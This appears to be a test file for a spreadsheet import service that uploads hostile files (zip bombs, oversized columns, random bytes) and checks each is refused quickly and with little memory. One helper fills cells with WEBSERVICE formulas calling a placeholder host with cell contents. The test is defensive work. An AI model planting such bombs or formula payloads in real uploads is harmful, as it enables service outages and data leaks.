// Files that mean harm, or that nobody meant to send: each is refused in words,
// soon, without much memory, and the service goes on.

import { randomBytes } from "node:crypto";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { beside, press } from "../lib/forms.mjs";
import { sendFile } from "../lib/send.mjs";
import { archive, endless, part, workbook, worksheetEnd, worksheetStart } from "../lib/zip.mjs";
import { accounts } from "../lib/accounts.mjs";

export const name = "hostile uploads";

const gigabyte = 1024 ** 3;
// The promise is five seconds; a busy machine is given more before it is a failure.
const mostSeconds = 30;
const mostMemory = 600_000_000;

function* repeated(piece, times) {
  for (let time = 0; time < times; time += 1) yield piece;
}

const columnName = (number) => (number < 26 ? "" : columnName(Math.floor(number / 26) - 1)) + String.fromCharCode(65 + (number % 26));

// Formulas that would ask another host, had anybody worked them out.
function formulas(headings = []) {
  const words = headings.map((heading, column) => `<c r="${columnName(column)}1" t="inlineStr"><is><t>${heading}</t></is></c>`);
  const start = headings.length > 0 ? `<row r="1">${words.join("")}</row>` : "";
  const first = headings.length > 0 ? 2 : 1;
  const rows = Array.from({ length: 400 }, (_, row) => {
    const cells = Array.from({ length: 20 }, (_, column) => `<c r="${columnName(column)}${row + first}"><f>WEBSERVICE("http://192.0.2.1/"&amp;A1)</f></c>`);
    return `<row r="${row + first}">${cells.join("")}</row>`;
  });
  return workbook(part("sheet", worksheetStart + start + rows.join("") + worksheetEnd));
}

async function files() {
  const bomb = await endless("sheet", worksheetStart, gigabyte);
  const manyColumns = await endless("sheet", `${worksheetStart}<row r="1"><c r="XFD1"><v>1</v></c></row>`, 1_000_000);
  return [
    { fileName: "bomb.xlsx", pieces: [workbook(bomb)], wanted: "unpacks to far more than a sheet of this kind needs" },
    { fileName: "bomb-that-lies.xlsx", pieces: [workbook({ ...bomb, size: 2_000 })], wanted: "damaged" },
    { fileName: "many-parts.xlsx", pieces: [archive(Array.from({ length: 5_000 }, (_, place) => part(`xl/part${place}.xml`, "<a/>")))], wanted: "too many parts" },
    { fileName: "far-column.xlsx", pieces: [workbook(manyColumns)], wanted: "more than 400 columns" },
    { fileName: "ten-million-columns.csv", pieces: repeated(Buffer.from(",".repeat(1_000_000)), 10), wanted: "is longer than 1000000 characters" },
    { fileName: "formulas.xlsx", pieces: [formulas()], wanted: "No row of column headings was found" },
    { fileName: "random.xlsx", pieces: [randomBytes(20_000_000)], wanted: "not a spreadsheet that can be read" },
    { fileName: "random.csv", pieces: [randomBytes(2_000_000)], wanted: "not a spreadsheet that can be read" },
    { fileName: "empty.csv", pieces: [], wanted: "Choose a sheet that has something in it" },
    { fileName: "one-long-line.csv", pieces: repeated(Buffer.alloc(4_000_000, "a"), 100), wanted: "larger than 25 MB", mayHangUp: true },
  ];
}

export async function run(ctx) {
  const server = await ctx.server();
  const officer = accounts(server.signIns).find((one) => one.role.startsWith("Police support officer"));
  const page = await ctx.newPage();
  await ctx.signIn(page, officer.signInName, officer.password);
  const cookie = (await page.context().cookies()).map((one) => `${one.name}=${one.value}`).join("; ");
  await page.goto(`${server.url}/imports`);
  let importsBefore = await page.locator("main table tbody tr").count();
  const before = await server.mostMemory();
  let most = before;
  for (const { fileName, pieces, wanted, mayHangUp = false } of await files()) {
    await ctx.step(`${fileName} is refused in words`, async () => {
      const answer = await sendFile(`${server.url}/imports`, { cookie, source: "police", fileName, pieces });
      most = await server.mostMemory();
      if (answer.hungUp && mayHangUp) {
        ctx.note(`${fileName}: the server hung up after ${answer.seconds.toFixed(2)} seconds, and its words were lost on the way`);
        return;
      }
      ctx.expect.ok([413, 422].includes(answer.status), `${fileName} is refused, but was answered with ${answer.status} ${answer.location ?? ""}`);
      const told = /<div class="govuk-error-summary[\s\S]*?<\/ul>/.exec(answer.text)?.[0].replace(/<[^>]+>/g, " ").replace(/\s+/g, " ").trim() ?? answer.text.slice(0, 300);
      ctx.note(`${fileName}: ${answer.seconds.toFixed(2)} seconds, ${Math.round(most / 1e6)} MB at most so far (${Math.round((most - before) / 1e6)} MB more than before): ${told}`);
      const says = typeof wanted === "string" ? told.includes(wanted) : wanted.test(told);
      ctx.expect.ok(says, `the refusal of ${fileName} should say ${wanted}, but says: ${told}`);
      ctx.expect.ok(answer.seconds < mostSeconds, `the refusal of ${fileName} took ${answer.seconds.toFixed(1)} seconds`);
    });
  }
  await ctx.step("formulas under real headings are never worked out, and no incident would be made of them", async () => {
    const headings = ["Incident Ref", "Date/Time Reported", "DASH Level", "DASH Score", "Victim Surname", "Victim Forename(s)", "Suspect Surname", "Suspect Forename(s)", "Summary"];
    const answer = await sendFile(`${server.url}/imports`, { cookie, source: "police", fileName: "formulas-under-headings.xlsx", pieces: [formulas(headings)] });
    if (answer.status === 303) {
      await page.goto(server.url + answer.location);
      ctx.expect.equal(await beside(page, "New incidents"), "0", "incidents that would be made of formulas");
      importsBefore += 1;
    } else {
      ctx.expect.equal(answer.status, 422, "the status of the refusal");
    }
  });
  await ctx.step("a person who chooses a file that is far too large reads why, in the browser", async () => {
    const folder = await mkdtemp(path.join(os.tmpdir(), "hawthorn-large-"));
    try {
      const large = path.join(folder, "large.csv");
      await writeFile(large, Buffer.alloc(60_000_000, "a,b\n"));
      await page.goto(`${server.url}/imports`);
      await page.locator('input[type="file"]').setInputFiles(large);
      await press(page, "Upload the sheet");
      await ctx.expect.text(page, ".govuk-error-summary", "larger than 25 MB");
    } finally {
      await rm(folder, { recursive: true, force: true });
    }
    most = Math.max(most, await server.mostMemory());
  });
  await ctx.step("the server held little memory", async () => {
    ctx.expect.ok(most < mostMemory, `the server held ${Math.round(most / 1e6)} MB at most`);
  });
  await ctx.step("the server still serves, and nothing was imported", async () => {
    await page.goto(`${server.url}/incidents`);
    await ctx.expect.titleContains(page, "Incidents");
    await page.goto(`${server.url}/imports`);
    ctx.expect.equal(await page.locator("main table tbody tr").count(), importsBefore, "imports in the list");
  });
}
